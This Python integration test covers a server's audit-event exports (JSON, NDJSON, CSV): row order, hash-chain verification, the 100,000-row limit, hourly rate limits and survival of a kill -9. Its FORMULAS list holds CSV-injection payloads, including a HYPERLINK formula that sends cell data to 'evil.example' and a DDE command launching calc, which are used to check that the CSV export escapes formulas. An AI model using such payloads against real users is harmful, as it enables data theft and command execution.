"""Exports of 100,000 rows, read by Python's own json and csv modules and held against the list of the search.

    export.py DIRECTORY-OF-BINARIES

Starts the server there, fills it with generated events and some that look like formulas, and checks: JSON, NDJSON and
CSV have the rows of the list in its order; the lines of NDJSON hash again, by docs/stele_verify.py and by custody.py;
the 100,001st row and the 11th export of an hour get the documented answers; a `kill -9` in the middle of an export
changes no byte of it. Exit codes: 0 all of it holds, 1 something does not, 2 wrong usage.
"""

import csv
import gzip
import hashlib
import io
import json
import pathlib
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request

import rehash
from server import Server, lines_of

HERE = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(HERE / "docs"))
import stele_verify as verify  # noqa: E402

KEY = "export-test-key-0123456789abcdef"
MOST = 100_000
BATCH = 20_000
# Every so many lines are hashed by the verifier, which is Python alone and slow; all of them by custody.py.
EVERY = 200

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=already quoted",
    "\uff1d1+1",
    'plain, "quoted"; =2 \r\n second line',
]
GUARDED = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\n", "\r", "'")


class Raw(str):
    """A number as it is written."""


class Process:
    """The server, and calls of it."""

    def __init__(self, binary, data):
        self.arguments = [binary, "serve", "--data", data, "--listen", "127.0.0.1:0", "--access-log", "off"]
        self.process, self.api = None, None

    def start(self):
        environment = {"STELE_ADMIN_KEY": KEY, "STELE_RATE_OTHER": "off", "STELE_QUERY_TIMEOUT": "10"}
        self.process = subprocess.Popen(self.arguments, stdout=subprocess.PIPE, env=environment, text=True)
        line = self.process.stdout.readline()
        while line and not line.startswith("listening on "):
            line = self.process.stdout.readline()
        assert line, "the server did not start"
        self.api = Server(line.split()[-1], KEY)

    def kill(self):
        self.process.kill()
        self.process.wait()
        self.process.stdout.close()

    def send(self, method, path, body, kind="application/json"):
        """Status, headers and body of a call, whatever the status."""
        headers = {"authorization": f"Bearer {KEY}", "content-type": kind}
        request = urllib.request.Request(self.api.url + path, data=body, headers=headers, method=method)
        try:
            with urllib.request.urlopen(request, timeout=120) as answer:
                return answer.status, answer.headers, answer.read()
        except urllib.error.HTTPError as refused:
            with refused:
                return refused.code, refused.headers, refused.read()

    def ask(self, **body):
        status, headers, answer = self.send("POST", "/v1/exports", json.dumps(body).encode())
        return status, headers, json.loads(answer)

    def asked(self, **body):
        status, _, answer = self.ask(**body)
        assert status == 202, answer
        return answer["id"]

    def row(self, name):
        return self.api.json(f"/v1/exports/{name}")

    def done(self, name):
        while True:
            row = self.row(name)
            if row["status"] not in ("pending", "running"):
                assert row["status"] == "done", row
                return row
            time.sleep(0.05)

    def file(self, row, **parameters):
        """A file, which must have the hash that the row tells."""
        query = "".join(f"?{name}={value}" for name, value in parameters.items())
        status, headers, data = self.send("GET", f"/v1/exports/{row['id']}/download{query}", None)
        chunk = row["chunks"][parameters.get("chunk", 1) - 1]
        assert status == 200 and len(data) == chunk["bytes"], (status, len(data), chunk)
        assert hashlib.sha256(data).hexdigest() == chunk["sha256"] == headers["etag"].strip('"')
        return data

    def cut(self, name, least):
        """Kills the server in the middle of an export, and starts it again."""
        while True:
            row = self.row(name)
            assert row["status"] in ("pending", "running"), f"the export was too fast to be cut: {row}"
            if row["entries"] > least:
                break
            time.sleep(0.01)
        self.kill()
        self.start()
        return row["entries"]


def ingest(server, lines):
    for at in range(0, len(lines), BATCH):
        body = b"\n".join(lines[at : at + BATCH])
        status, _, answer = server.send("POST", "/v1/events", body, "application/x-ndjson")
        assert status == 200 and json.loads(answer)["rejected"] == 0, answer[:400]


def generated(binary, count):
    made = subprocess.run(
        [binary, "--events", str(count), "--seed", "7", "--until", "2026-11-25T00:00:00Z"], check=True, capture_output=True
    )
    return made.stdout.splitlines()


def formulas():
    for i, text in enumerate(FORMULAS):
        yield json.dumps(
            {
                "event_id": f"formula-{i}",
                "timestamp": f"2026-11-24T12:00:{i:02}Z",
                "event_type": "agent.updated",
                "actor": {"type": "user", "id": text, "name": text},
                "resource": {"type": "agent", "id": "a", "name": text},
                "action": "update",
                "status": "success",
                "metadata": {"note": text, "list": [text, -1.50], "n": -5, "a.b": {"c d": text}, "nothing": None, "empty": {}},
            }
        ).encode()


def plain(name):
    """True for a name that a path has without quotes."""
    return name.isascii() and name.replace("_", "a").replace("-", "a").isalnum() and (name[0].isalpha() or name[0] == "_")


def compact(value):
    """JSON as it is stored, numbers as they were written."""
    if isinstance(value, Raw):
        return str(value)
    if isinstance(value, dict):
        return "{" + ",".join(f"{compact(name)}:{compact(inner)}" for name, inner in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ",".join(map(compact, value)) + "]"
    return json.dumps(value, ensure_ascii=False)


def flat(path, value, cells):
    """The cells of a value by their paths, as docs/API.md says."""
    if isinstance(value, dict) and value:
        for name, inner in value.items():
            spelled = name if plain(name) else '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
            flat(f"{path}.{spelled}" if path else spelled, inner, cells)
    elif value is None:
        pass
    elif isinstance(value, str) and not isinstance(value, Raw):
        cells[path] = "'" + value if value.startswith(GUARDED) else value
    elif path != "metadata":
        cells[path] = compact(value)


def check_csv(text, lines):
    rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    head = next(rows)
    assert len(set(head)) == len(head) and head[:2] == ["event_id", "timestamp"] and head[-1] == "chain.hash", head
    paths = set()
    for count, (row, line) in enumerate(zip(rows, lines, strict=True), 1):
        cells = {}
        flat("", json.loads(line, parse_float=Raw, parse_int=Raw), cells)
        paths |= cells.keys()
        assert len(row) == len(head), f"row {count} has {len(row)} cells"
        found = {name: cell for name, cell in zip(head, row) if cell}
        expected = {name: cell for name, cell in cells.items() if cell}
        assert found == expected, f"row {count}: {set(found.items()) ^ set(expected.items())}"
        for name, cell in found.items():
            number = cell.lstrip("-").replace(".", "").replace("e", "").replace("+", "").isdigit()
            assert number or not cell.startswith(GUARDED[:-1]), f"row {count}, {name}: {cell!r} begins as a formula does"
    assert paths <= set(head), paths - set(head)
    assert count == len(lines)
    assert text.endswith("\r\n")
    return len(head)


def check_ndjson(data, lines):
    found = data.decode().split("\n")
    assert found.pop() == "" and found == lines, "the lines of the list"
    for i, line in enumerate(found):
        _, _, _, wrong = rehash.check(line)
        assert wrong is None, wrong
        if i % EVERY == 0 or b"formula-" in line.encode():
            place, hashed = f"line {i + 1}", json.loads(line)["chain"]["hash"]
            assert verify.exported(line.encode(), place).hash.hex() == hashed, place


def check_json(data, lines):
    text = data.decode()
    assert text == "[" + ",".join(lines) + "]\n", "one array of the lines"
    rows = json.loads(text)
    assert len(rows) == len(lines) and rows[::10] == [json.loads(line) for line in lines[::10]]


def check_forms(server, lines):
    """The same rows in each form, at once."""
    names = {
        "json": server.asked(format="json"),
        "ndjson": server.asked(format="ndjson", compression="gzip"),
        "csv": server.asked(format="csv"),
    }
    rows = {form: server.done(name) for form, name in names.items()}
    for form, row in rows.items():
        assert (row["entries"], row["total"], row["archived"]) == (MOST, MOST, []), (form, row)
    files = {form: server.file(row) for form, row in rows.items()}
    files["ndjson"] = gzip.decompress(files["ndjson"])
    for form, row in rows.items():
        assert row["verification_hash"] == "sha256:" + hashlib.sha256(files[form]).hexdigest(), form
    check_json(files["json"], lines)
    check_ndjson(files["ndjson"], lines)
    return check_csv(files["csv"].decode(), lines)


def check_too_many(server):
    """The 100,001st row: refused, with ranges that together are the question."""
    status, _, problem = server.ask(format="csv")
    assert status == 422 and problem["type"] == "urn:stele:problem/too-many-entries", problem
    assert problem["matched"] == MOST + 1 and "ranges" in problem["detail"], problem
    counts = [part["events"] for part in problem["ranges"]]
    assert sum(counts) == MOST + 1 and max(counts) <= MOST, counts
    for part in problem["ranges"]:
        page = server.api.json("/v1/events", **{"from": part["from"], "to": part["to"], "limit": 1, "count": "exact"})
        assert page["matched"] == part["events"], (page["matched"], part)
    return len(counts)


def check_kills(server, lines):
    """Cut in the middle and gone on with: the same bytes."""
    fields = ["event_id", "actor.name", "metadata", "@status_code", "chain.hash"]
    form = {"format": "csv", "fields": fields, "compression": "gzip", "to": "2026-11-25T00:00:00Z"}
    whole = server.file(server.done(server.asked(**form)))
    assert gzip.decompress(whole).count(b"\r\n") > MOST
    name = server.asked(**form)
    cut = [server.cut(name, 20_000)]
    assert server.file(server.done(name)) == whole, "the export that was cut has the bytes of the one that was not"
    status, _, answer = server.send("PUT", "/v1/retention", b'{"plan": "enterprise"}')
    assert status == 200, answer
    name = server.asked(format="ndjson", bulk=True)
    cut.append(server.cut(name, 50_000))
    row = server.done(name)
    assert [chunk["entries"] for chunk in row["chunks"]] == [MOST, 1], row["chunks"]
    together = b"".join(server.file(row, chunk=number) for number in (1, 2)).decode()
    assert together.split("\n")[:-1] == lines, "all chunks are the list"
    status, _, manifest = server.send("GET", f"/v1/exports/{name}/manifest", None)
    assert status == 200 and row["verification_hash"] == "sha256:" + hashlib.sha256(manifest).hexdigest()
    assert json.loads(manifest)["chunks"] == row["chunks"]
    return cut


def check_hour(server):
    """The 11th export of an hour, also after a restart."""
    asked = len(server.api.json("/v1/exports")["exports"])
    for _ in range(asked, 10):
        server.asked(q="id:formula-1")
    for _ in range(2):
        status, headers, problem = server.ask(q="id:formula-1")
        assert status == 429 and 0 < int(headers["retry-after"]) <= 3600, (status, problem)
        server.kill()
        server.start()


def main():
    if len(sys.argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    binaries, begun = pathlib.Path(sys.argv[1]), time.monotonic()
    with tempfile.TemporaryDirectory() as data:
        server = Process(binaries / "stele", data)
        server.start()
        try:
            ingest(server, generated(binaries / "stele-generate", MOST - len(FORMULAS)) + list(formulas()))
            lines = [line for page in server.api.pages(limit=1000) for line in lines_of(page)]
            assert len(lines) == MOST, len(lines)
            columns = check_forms(server, lines)
            late = next(formulas()).replace(b"formula-0", b"late").replace(b"2026-11-24T12", b"2026-11-26T12")
            ingest(server, [late])
            ranges = check_too_many(server)
            late = server.api.text("/v1/events/late").strip()
            cut = check_kills(server, [late, *lines])
            check_hour(server)
        finally:
            server.kill()
    print(
        f"export: {MOST} rows as JSON, NDJSON and CSV ({columns} columns) are the list and hash again; {ranges} ranges; "
        f"cut by kill -9 at rows {cut[0]} and {cut[1]}; {time.monotonic() - begun:.0f} s"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
